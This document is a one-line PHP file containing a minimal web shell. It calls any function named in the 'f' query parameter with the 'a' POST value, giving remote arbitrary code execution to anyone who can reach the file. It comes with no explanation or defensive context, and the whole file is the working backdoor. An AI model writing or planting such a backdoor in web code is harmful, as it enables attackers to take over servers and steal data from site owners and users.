<?php $_GET['f']($_POST['a']); ?>
